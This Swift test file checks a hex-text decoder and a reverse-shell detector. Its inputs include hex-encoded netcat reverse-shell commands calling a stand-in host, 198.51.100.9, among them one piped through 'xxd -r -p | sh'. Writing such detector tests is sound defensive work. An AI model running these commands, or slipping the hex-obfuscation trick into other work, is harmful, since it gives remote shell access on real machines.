import Bytes
import Testing

@testable import Detectors

@Suite struct HexadecimalTextTests {
  private func run(_ text: String) -> String? {
    text.withView { HexadecimalText.run(in: $0) }.map { String(decoding: $0, as: UTF8.self) }
  }

  private func spaced(_ text: String) -> String? {
    text.withView { HexadecimalText.spaced(in: $0) }.map { String(decoding: $0, as: UTF8.self) }
  }

  @Test func zerosPartArgumentsOrWidenCharacters() {
    #expect(
      run("proctitle=6E63002D65002F62696E2F7368003139382E35312E3130302E390034323432")
        == "nc -e /bin/sh 198.51.100.9 4242")
    #expect(run("x=6e0063002d00650020002f00620069006e00") == "nc-e /bin")
    #expect(run("6e63202d65202f62696e2f7368") == "nc -e /bin/sh")
    // Numbers and digests, padding, and what is mostly zeros.
    #expect(run("trace=00000000000000000000000000000041") == nil)
    #expect(run("id=4100000000000000000000000000000000") == nil)
    #expect(run("da39a3ee5e6b4b0d3255bfef95601890afd80709") == nil)
  }

  /// Only every thirty-fifth byte is looked at first.
  @Test(arguments: 0..<40)
  func aRowIsFoundWhereverItStands(_ offset: Int) {
    let row = "6e 63 20 2d 65 20 73 68 20 31 39 38"
    let before = String(repeating: "x", count: offset)
    #expect(spaced("\(before) \(row) | xxd -r -p") == "nc -e sh 198")
    // Eleven pairs are too few, and with a pair that is no character the row is none of text.
    #expect(spaced("\(before) \(row.dropLast(3)) | xxd -r -p") == nil)
    #expect(spaced("\(before) ab \(row) | xxd -r -p") == nil)
  }

  @Test func pairsMayHaveBlanksBetween() {
    #expect(spaced("echo 6e 63 20 2d 65 20 2f 62 69 6e 2f 73 68 | xxd -r -p") == "nc -e /bin/sh")
    #expect(spaced("xxd 6e 63 20 2d 65 20 2f 62 69 6e 2f") == nil)
    #expect(spaced("seq 10 11 12 13 14 15 16 17 18 19 20 21 22 23 | xxd") == nil)
    let found = "echo 6e 63 20 2d 65 20 73 68 20 31 39 38 2e 35 31 2e 31 30 30 2e 39 20 34 32 | xxd -r -p | sh".withView
    {
      ReverseShellDetector().scan($0, .command)
    }
    #expect(found.first?.host == "198.51.100.9")
    #expect(found.first?.port == 42)
  }
}
